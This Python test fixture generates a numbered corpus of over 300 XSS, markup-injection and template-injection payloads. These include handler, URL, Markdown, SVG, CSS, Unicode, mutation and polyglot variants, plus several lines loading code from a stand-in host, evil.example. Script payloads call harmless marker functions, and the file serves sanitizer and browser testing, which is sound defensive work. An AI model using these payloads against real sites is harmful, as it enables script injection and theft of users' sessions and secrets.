"""A corpus of hostile texts: XSS payloads, markup injection and template injection.

Written for this project (not downloaded). Every payload that would run script calls a
marker, ``__xss(N)`` or ``alert(N)`` with N its own id, so a browser test can tell
which one fired. ``§`` in a template below is replaced by the payload's id.

Categories: script, handler, url, markdown, svg_mathml, css, unicode, template,
attribute, mutation, polyglot. ``LITERALS`` are texts that must be shown exactly as
typed (template syntax must never be evaluated).
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

MARK = "§"


@dataclass(frozen=True)
class Payload:
    id: int
    category: str
    text: str


PAYLOADS: list[Payload] = []


def _add(category: str, *templates: str | Callable[[int], str]) -> None:
    for template in templates:
        n = len(PAYLOADS) + 1
        text = template(n) if callable(template) else template.replace(MARK, str(n))
        PAYLOADS.append(Payload(n, category, text))


def _dec(text: str) -> str:
    """Every character as a decimal HTML entity: &#106;&#97;..."""
    return "".join(f"&#{ord(c)};" for c in text)


def _hex(text: str, pad: int = 0) -> str:
    """Every character as a hexadecimal entity, optionally zero-padded: &#x006A;..."""
    return "".join(f"&#x{ord(c):0{pad}x};" for c in text)


# --- <script> variants, case and whitespace tricks -------------------------------------
_add(
    "script",
    "<script>__xss(§)</script>",
    "<SCRIPT>__xss(§)</SCRIPT>",
    "<ScRiPt>__xss(§)</sCrIpT>",
    "<script >__xss(§)</script >",
    "<script\n>__xss(§)</script\n>",
    "<script\t>__xss(§)</script>",
    "<script/x>__xss(§)</script>",
    "<script type=text/javascript>__xss(§)</script>",
    "<script type='module'>__xss(§)</script>",
    "<script language=javascript>__xss(§)</script>",
    "<script>alert(§)</script>",
    "<script>confirm(§)</script>",
    "<script>prompt(§)</script>",
    "<scr<script>ipt>__xss(§)</scr</script>ipt>",
    "<<script>script>__xss(§)<</script>/script>",
    "<script>__xss(§)//",
    "<script>__xss(§)",
    "<script src=data:text/javascript,__xss(§)></script>",
    "<script src=//evil.example/x.js></script><script>__xss(§)</script>",
    "</textarea><script>__xss(§)</script>",
    "</title><script>__xss(§)</script>",
    "</p></div><script>__xss(§)</script>",
    "</script><script>__xss(§)</script>",
    "<script>/*</script><script>*/__xss(§)</script>",
    "<!--<script>-->__xss(§)<!--</script>-->",
    "<script>document.write('<img src=x onerror=__xss(§)>')</script>",
    "<script>eval('__x'+'ss(§)')</script>",
    "<script>setTimeout('__xss(§)')</script>",
    "<script\x0c>__xss(§)</script>",
    "<script>window['__xss'](§)</script>",
)

# --- event handlers on many tags --------------------------------------------------------
_add(
    "handler",
    "<img src=x onerror=__xss(§)>",
    "<img src=x onerror='__xss(§)'>",
    '<img src="x" onerror="__xss(§)">',
    "<IMG SRC=x ONERROR=__xss(§)>",
    "<img src=x oNeRrOr=__xss(§)>",
    "<img/src=x/onerror=__xss(§)>",
    "<img src=x\nonerror=__xss(§)>",
    "<img src=x\tonerror=__xss(§)>",
    "<img src=x onerror\n=\n__xss(§)>",
    "<img src=x onerror=&#95;&#95;xss(§)>",
    "<img src onerror=alert(§)>",
    "<image src=x onerror=__xss(§)>",
    "<img srcset=x onerror=__xss(§)>",
    "<picture><source srcset=x><img src=x onerror=__xss(§)></picture>",
    "<svg onload=__xss(§)>",
    "<svg/onload=__xss(§)>",
    "<svg\nonload=__xss(§)>",
    "<body onload=__xss(§)>",
    "<body onpageshow=__xss(§)>",
    "<details open ontoggle=__xss(§)>",
    "<details/open/ontoggle=__xss(§)><summary>x</summary></details>",
    "<video src=x onerror=__xss(§)></video>",
    "<video><source onerror=__xss(§)></video>",
    "<video poster=javascript:__xss(§)></video>",
    "<audio src=x onerror=__xss(§)></audio>",
    "<audio controls autoplay oncanplay=__xss(§)><source src=x></audio>",
    "<iframe srcdoc='<script>parent.__xss(§)</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.__xss(§)&gt;"></iframe>',
    "<iframe onload=__xss(§)></iframe>",
    "<iframe src=javascript:__xss(§)></iframe>",
    "<input autofocus onfocus=__xss(§)>",
    "<input onfocus=__xss(§) autofocus>",
    "<input type=image src=x onerror=__xss(§)>",
    "<textarea autofocus onfocus=__xss(§)>",
    "<select autofocus onfocus=__xss(§)>",
    "<keygen autofocus onfocus=__xss(§)>",
    "<button autofocus onfocus=__xss(§)>x</button>",
    "<a href=# onclick=__xss(§)>click</a>",
    "<a onmouseover=__xss(§)>hover</a>",
    "<a href=https://example.fi onfocus=__xss(§) autofocus>x</a>",
    "<div onmouseover=__xss(§)>x</div>",
    "<div tabindex=1 autofocus onfocus=__xss(§)>x</div>",
    "<p onclick=__xss(§)>x</p>",
    "<span onpointerenter=__xss(§)>x</span>",
    "<strong onanimationstart=__xss(§)>x</strong>",
    "<em style=animation-name:x onanimationend=__xss(§)>x</em>",
    "<blockquote oncopy=__xss(§)>x</blockquote>",
    "<code onbeforecopy=__xss(§)>x</code>",
    "<marquee onstart=__xss(§)>x</marquee>",
    "<object data=x onerror=__xss(§)></object>",
    "<embed src=x onload=__xss(§)>",
    "<form><button formaction=javascript:__xss(§)>x</button></form>",
    "<form onsubmit=__xss(§)><input type=submit></form>",
    "<isindex type=image src=x onerror=__xss(§)>",
    "<table background=javascript:__xss(§)><td onmouseover=__xss(§)>x</td></table>",
    "<li onclick=__xss(§)>x</li>",
    "<ol onfocusin=__xss(§)><li>x</li></ol>",
    "<pre onwheel=__xss(§)>x</pre>",
    "<br onload=__xss(§)>",
    "<x onclick=__xss(§)>custom</x>",
    "<style onload=__xss(§)></style>",
    "<link rel=stylesheet href=x onerror=__xss(§)>",
    "<frameset onload=__xss(§)>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss(§)'>",
    "<base href=javascript:__xss(§)//>",
    "<img src=x onerror=window['__x'+'ss'](§)>",
    "<img src=x:alert(§) onerror=eval(src)>",
    '<img src=x onerror="javascript:__xss(§)">',
    "<svg><animate onbegin=__xss(§) attributeName=x dur=1s>",
    "<svg><set onbegin=__xss(§) attributename=x to=1>",
)

# --- javascript:, vbscript:, data: URLs in attributes ----------------------------------
_add(
    "url",
    "<a href=javascript:__xss(§)>x</a>",
    '<a href="javascript:__xss(§)">x</a>',
    "<a href='JaVaScRiPt:__xss(§)'>x</a>",
    "<a href=' javascript:__xss(§)'>x</a>",
    '<a href="\tjavascript:__xss(§)">x</a>',
    '<a href="java\tscript:__xss(§)">x</a>',
    '<a href="java\nscript:__xss(§)">x</a>',
    '<a href="java\rscript:__xss(§)">x</a>',
    '<a href="javas&#x09;cript:__xss(§)">x</a>',
    '<a href="javas&#9;cript:__xss(§)">x</a>',
    '<a href="javas&Tab;cript:__xss(§)">x</a>',
    '<a href="jav&#x0A;ascript:__xss(§)">x</a>',
    '<a href="&#106;avascript:__xss(§)">x</a>',
    lambda n: f'<a href="{_dec(f"javascript:__xss({n})")}">x</a>',
    lambda n: f'<a href="{_hex(f"javascript:__xss({n})")}">x</a>',
    lambda n: f'<a href="{_hex(f"javascript:__xss({n})", 6)}">x</a>',
    lambda n: (
        '<a href="'
        + "".join(f"&#{ord(c):07d}" for c in f"javascript:alert({n})")
        + '">x</a>'
    ),
    '<a href="javascript&colon;__xss(§)">x</a>',
    '<a href="javascript&#58;__xss(§)">x</a>',
    '<a href="javascript&#x3A;__xss(§)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__xss(§)">x</a>',
    '<a href="javascript:%5F%5Fxss(§)">x</a>',
    '<a href="javascript://%0a__xss(§)">x</a>',
    '<a href="javascript://example.fi/%0A__xss(§)">https://example.fi</a>',
    '<a href="vbscript:msgbox(§)">x</a>',
    '<a href="VBScript:MsgBox(§)">x</a>',
    '<a href="data:text/html,<script>__xss(§)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x§</a>',
    '<a href="DATA:text/html,<svg onload=__xss(§)>">x</a>',
    '<a href="data:image/svg+xml,<svg onload=__xss(§)>">x</a>',
    '<a href="\x00javascript:__xss(§)">x</a>',
    '<a href="javascript\x00:__xss(§)">x</a>',
    '<a href="jav\u00adascript:__xss(§)">x</a>',
    '<a href="&#0;javascript:__xss(§)">x</a>',
    '<a href="&#x20;javascript:__xss(§)">x</a>',
    '<a href="/\\javascript:__xss(§)">x</a>',
    '<a href="http:javascript:__xss(§)">x</a>',
    '<a href="mailto:x@example.fi?body=<script>__xss(§)</script>">x</a>',
    '<a href="https://example.fi" title="x" onclick="__xss(§)">x</a>',
    '<a href="https://example.fi/"onclick="__xss(§)">x</a>',
    "<a href=https://example.fi/ target=_blank rel=opener>§</a>",
    "<form action=javascript:__xss(§)><input type=submit></form>",
    "<form><input type=submit formaction=javascript:__xss(§)></form>",
    "<button formaction=javascript:__xss(§)>x</button>",
    "<iframe src=data:text/html,<script>parent.__xss(§)</script>></iframe>",
    "<object data=javascript:__xss(§)></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>§</object>",
    "<embed src=javascript:__xss(§)>",
    "<embed src=data:image/svg+xml,<svg%20onload=__xss(§)>>",
    '<svg><a xlink:href="javascript:__xss(§)"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="javascript:__xss(§)"><text y=9>x</text></a></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:__xss(§)>x</maction></math>",
    '<img src="javascript:__xss(§)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">§',
    '<img src="data:image/png;base64,iVBORw0KGgo=">§',
    "<isindex action=javascript:__xss(§) type=submit>",
    '<a href="https://example.fi">ok</a><a href="javascript:__xss(§)">x</a>',
)

# --- Markdown tricks --------------------------------------------------------------------
_add(
    "markdown",
    "[x](javascript:__xss(§))",
    "[x](JaVaScRiPt:__xss(§))",
    "[x](javascript:alert(§))",
    "[x]( javascript:__xss(§))",
    "[x](javascript&#58;__xss(§))",
    "[x](javas&#x09;cript:__xss(§))",
    "[x](&#106;avascript:__xss(§))",
    "[x](<javascript:__xss(§)>)",
    "[x](vbscript:msgbox(§))",
    "[x](data:text/html,<script>__xss(§)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) §",
    "![x](javascript:__xss(§))",
    '![x](x" onerror="__xss(§))',
    '![x](https://example.fi/x.png "a" onerror="__xss(§)")',
    "![x](data:image/svg+xml,<svg/onload=__xss(§)>)",
    "[x][r§]\n\n[r§]: javascript:__xss(§)",
    '[x][r§]\n\n[r§]: JAVASCRIPT:__xss(§) "title"',
    "![x][i§]\n\n[i§]: javascript:__xss(§)",
    "[x]\n\n[x]: javascript:__xss(§)",
    "<javascript:__xss(§)>",
    "<JavaScript:alert(§)>",
    "<vbscript:msgbox(§)>",
    "<data:text/html,<script>__xss(§)</script>>",
    '[x](https://example.fi "a" onmouseover="__xss(§)")',
    "[x](https://example.fi 'a' onmouseover='__xss(§)')",
    '[x](https://example.fi "\\"onmouseover=__xss(§) x=\\"")',
    '[x](https://example.fi"onmouseover="__xss(§))',
    '[x](https://example.fi#"onmouseover="__xss(§))',
    "[a](https://example.fi)[b](javascript:__xss(§))",
    "[[x](javascript:__xss(§))](https://example.fi)",
    "[x[y](javascript:__xss(§))z](https://example.fi)",
    "[![img](javascript:__xss(§))](javascript:__xss(§))",
    '[x](javascript:__xss(§)"https://example.fi)',
    "[x](#) <img src=x onerror=__xss(§)>",
    "**<img src=x onerror=__xss(§)>**",
    "*<script>__xss(§)</script>*",
    "> <script>__xss(§)</script>",
    "- <img src=x onerror=__xss(§)>",
    "1. [x](javascript:__xss(§))",
    "    <script>__xss(§)</script>",
    "```\n<script>__xss(§)</script>\n```",
    "`<img src=x onerror=__xss(§)>`",
    "<div markdown=1>[x](javascript:__xss(§))</div>",
    "<!-- --><script>__xss(§)</script><!-- -->",
    "<!-- <img src=x onerror=__xss(§)> -->",
    "<!--><img src=x onerror=__xss(§)>-->",
    "<!--!><img src=x onerror=__xss(§)>",
    "<![CDATA[<script>__xss(§)</script>]]>",
    "<![CDATA[><img src=x onerror=__xss(§)>]]>",
    '<?xml version="1.0"?><img src=x onerror=__xss(§)>',
    "<!DOCTYPE x [<!ENTITY e '<script>__xss(§)</script>'>]>&e;",
    "Setext\n===\n<img src=x onerror=__xss(§)>",
    "[x](javascript:__xss(§) 'title')",
    "[x](\njavascript:__xss(§))",
    "[x](java\nscript:__xss(§))",
    "www.example.fi/<script>__xss(§)</script>",
    'https://example.fi/"onmouseover="__xss(§)',
    "https://example.fi/<img src=x onerror=__xss(§)>",
    'mailto:x@example.fi"onmouseover="__xss(§)',
    "x@example.fi<img src=x onerror=__xss(§)>",
)

# --- SVG and MathML ---------------------------------------------------------------------
_add(
    "svg_mathml",
    "<svg><script>__xss(§)</script></svg>",
    "<svg><script href=data:,__xss(§) />",
    "<svg><script xlink:href=data:,__xss(§)></script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__xss(§)</script>'>",
    "<svg><foreignObject><img src=x onerror=__xss(§)></foreignObject></svg>",
    "<svg><image href=x onerror=__xss(§)>",
    "<svg><image xlink:href=x onerror=__xss(§)>",
    "<svg><use href=data:image/svg+xml,<svg%20id='x'%20onload='__xss(§)'/>#x>",
    "<svg><animate attributeName=href values=javascript:__xss(§) /><a><text>x</text></a>",
    "<svg><set attributeName=onmouseover to=__xss(§)>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>__xss(§)</handler>",
    "<svg><style>@import'javascript:__xss(§)';</style></svg>",
    "<svg><title><img src=x onerror=__xss(§)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>__xss(§)</script>]]></svg>",
    "<svg xmlns=http://www.w3.org/2000/svg onload=__xss(§)/>",
    "<svg><svg onload=__xss(§)>",
    "<svg><discard onbegin=__xss(§)>",
    "<svg><feImage href=javascript:__xss(§)>",
    "<math><a xlink:href=javascript:__xss(§)>x</a></math>",
    "<math href=javascript:__xss(§)>x</math>",
    "<math><mi xlink:href=javascript:__xss(§)>x</mi></math>",
    "<math><maction actiontype=toggle onclick=__xss(§)><mi>x</mi></maction></math>",
    "<math><mtext><img src=x onerror=__xss(§)></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=__xss(§)></annotation-xml></math>",
    "<math><style><img src=x onerror=__xss(§)></style></math>",
)

# --- CSS --------------------------------------------------------------------------------
_add(
    "css",
    '<div style="background:url(javascript:__xss(§))">x</div>',
    '<div style="width:expression(__xss(§))">x</div>',
    '<div style="x:expr/**/ession(__xss(§))">x</div>',
    '<div style="behavior:url(x.htc)">§</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">§</div>',
    "<p style=\"background-image:url('javascript:__xss(§)')\">x</p>",
    '<a href=https://example.fi style="position:fixed;top:0;left:0;width:100%;height:100%">§</a>',
    '<strong style="color:red">§</strong>',
    "<style>@import 'javascript:__xss(§)';</style>",
    "<style>@import url(https://evil.example/§.css);</style>",
    "<style>body{background:url(javascript:__xss(§))}</style>",
    "<style>*{x:expression(__xss(§))}</style>",
    "<style>a{behavior:url(#default#time2)}</style>§",
    "<style>@keyframes x{}</style><em style=animation-name:x onanimationstart=__xss(§)>x</em>",
    "<style></style><img src=x onerror=__xss(§)>",
    "<link rel=stylesheet href=javascript:__xss(§)>",
    "<link rel=import href=data:text/html,<script>__xss(§)</script>>",
    '<div style="background:u&#114;l(javascript:__xss(§))">x</div>',
    '<div style="background:\\75rl(javascript:__xss(§))">x</div>',
    '<xss style="xss:expression(__xss(§))">x</xss>',
    '<style>li{list-style-image:url("javascript:__xss(§)")}</style><ul><li>x</li></ul>',
)

# --- HTML entity and Unicode tricks -----------------------------------------------------
_add(
    "unicode",
    "\uff1cscript\uff1e__xss(§)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=__xss(§)\uff1e",
    "\u2028<script>__xss(§)</script>\u2029",
    "<img src=x\u2028onerror=__xss(§)>",
    "<scr\u200bipt>__xss(§)</scr\u200bipt>",
    "<img src=x on\u200berror=__xss(§)>",
    "\u202e>tpircs/<)§(ssx__>tpircs<",
    "\u202e<img src=x onerror=__xss(§)>\u202c",
    "<scr\x00ipt>__xss(§)</scr\x00ipt>",
    "<img src=x onerror\x00=__xss(§)>",
    "\x00<script>__xss(§)</script>",
    "&lt;script&gt;__xss(§)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;__xss(§)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;__xss(§)&#60;/script&#62;",
    "&#x3C;img src=x onerror=__xss(§)&#x3E;",
    "\\x3cscript\\x3e__xss(§)\\x3c/script\\x3e",
    "\\u003cscript\\u003e__xss(§)\\u003c/script\\u003e",
    "%3Cscript%3E__xss(§)%3C/script%3E",
    "%253Cscript%253E__xss(§)%253C/script%253E",
    "\u00bcscript\u00be__xss(§)\u00bc/script\u00be",
    "<\u0131mg src=x onerror=__xss(§)>",
    "<\u017fcript>__xss(§)</\u017fcript>",
    "<img src=x onerror=\u005f\u005fxss(§)>",
    "\ufeff<script>__xss(§)</script>",
    '<a href="\ufeffjavascript:__xss(§)">x</a>',
    '<a href="java\u2028script:__xss(§)">x</a>',
    "<svg onload=__xss&#40;§&#41;>",
    '<img src=x onerror="&#x5f;&#x5f;xss&#x28;§&#x29;">',
    "\U0001f600<script>__xss(§)</script>\U0001f600",
    "\ud7ff<img src=x onerror=__xss(§)>",
    "A\u0301\u0302\u0303<img src=x onerror=__xss(§)>",
)

# --- template injection: shown literally, never evaluated ------------------------------
_add(
    "template",
    "{{7*7}} §",
    "{{ 7*'7' }} §",
    "{% for x in range(3) %}x{% endfor %} §",
    "{{config}} §",
    "{{ config.SECRET_KEY }} §",
    "{{request.application.__globals__}} §",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} §",
    "{% raw %}<script>__xss(§)</script>{% endraw %}",
    "${7*7} §",
    "#{7*7} §",
    "<%= 7*7 %> §",
    "{{constructor.constructor('__xss(§)')()}}",
    "%(name)s %s {0} §",
    "{{_('x')}} §",
    "{# comment #} §",
    "{{ self._TemplateReference__context }} §",
)

# --- breaking out of attributes and strings ---------------------------------------------
_add(
    "attribute",
    '"><svg onload=__xss(§)>',
    "'><svg onload=__xss(§)>",
    '"><script>__xss(§)</script>',
    "'-__xss(§)-'",
    '";__xss(§);//',
    "';__xss(§);//",
    '" onmouseover="__xss(§)" x="',
    "' onfocus='__xss(§)' autofocus x='",
    '" autofocus onfocus=__xss(§) x="',
    '`"><img src=x onerror=__xss(§)>',
    '\\"><img src=x onerror=__xss(§)>',
    '"/><img src=x onerror=__xss(§)>',
    "</a><a href=javascript:__xss(§)>x</a>",
    "</option></select><img src=x onerror=__xss(§)>",
    "</textarea><img src=x onerror=__xss(§)>",
    "</title><img src=x onerror=__xss(§)>",
    "</style><img src=x onerror=__xss(§)>",
    "</script><img src=x onerror=__xss(§)>",
    "--><img src=x onerror=__xss(§)>",
    "]]><img src=x onerror=__xss(§)>",
    '"></label><img src=x onerror=__xss(§)>',
    "</h1><img src=x onerror=__xss(§)>",
    '" data-x="</script><script>__xss(§)</script>',
    "javascript:__xss(§)",
    'https://example.fi/"><script>__xss(§)</script>',
)

# --- mutation XSS: parser round trips ----------------------------------------------------
_add(
    "mutation",
    '<noscript><p title="</noscript><img src=x onerror=__xss(§)>">',
    "<noscript><style></noscript><img src=x onerror=__xss(§)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(§)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__xss(§)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=__xss(§)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss(§) src=x>"></textarea>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss(§)>",
    '<xmp><p title="</xmp><img src=x onerror=__xss(§)>">',
    '<iframe><p title="</iframe><img src=x onerror=__xss(§)>">',
    '<noembed><p title="</noembed><img src=x onerror=__xss(§)>">',
    '<noframes><p title="</noframes><img src=x onerror=__xss(§)>">',
    '<title><p title="</title><img src=x onerror=__xss(§)>">',
    '<textarea><p title="</textarea><img src=x onerror=__xss(§)>">',
    "<template><img src=x onerror=__xss(§)></template>",
    "<select><template><img src=x onerror=__xss(§)></template></select>",
    '<table><td><p><a href="</td><img src=x onerror=__xss(§)>">x</a>',
    '<a href="https://example.fi"><a href="javascript:__xss(§)">x</a></a>',
    "<p><style><!--</style><img src=x onerror=__xss(§)>-->",
    "<listing>&lt;img src=x onerror=__xss(§)&gt;</listing>",
    "<plaintext><img src=x onerror=__xss(§)>",
    "<svg><![CDATA[><img src=x onerror=__xss(§)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=__xss(§)>]]>",
)

# --- polyglots ---------------------------------------------------------------------------
_add(
    "polyglot",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss(§) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss(§)//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea><svg onload=__xss(§)>",
    "\"'><img src=x onerror=__xss(§)>{{7*7}}${7*7}<!--",
    'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=__xss(§)//>',
    '-->\'"/></sCript><deTailS open x=">" oNToggle=__xss(§)>',
    "</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__xss(§)//'>",
    '<svg/onload=__xss(§)//" onclick=__xss(§)// <!-- [x](javascript:__xss(§))',
    "'\"()&%<acx><ScRiPt >__xss(§)</ScRiPt>",
    '"><iframe src="javascript:__xss(§)"></iframe><a href="javascript:__xss(§)">',
    "%0A%0D<script>__xss(§)</script>%0A[x](javascript:__xss(§))",
)

#: Texts that must reach the page exactly as typed (after HTML unescaping).
LITERALS = [p for p in PAYLOADS if p.category == "template"]

COUNTS = Counter(p.category for p in PAYLOADS)

assert len(PAYLOADS) >= 300, len(PAYLOADS)
assert len({p.text for p in PAYLOADS}) == len(PAYLOADS), "duplicate payloads"


def chunks(max_length: int, separator: str = "\n\n", payloads=None) -> list[str]:
    """Pack payloads into as few texts of at most max_length characters as fit."""
    out: list[str] = []
    current = ""
    for payload in payloads if payloads is not None else PAYLOADS:
        text = payload.text
        if len(text) > max_length:
            continue
        candidate = f"{current}{separator}{text}" if current else text
        if len(candidate) > max_length:
            out.append(current)
            current = text
        else:
            current = candidate
    if current:
        out.append(current)
    return out
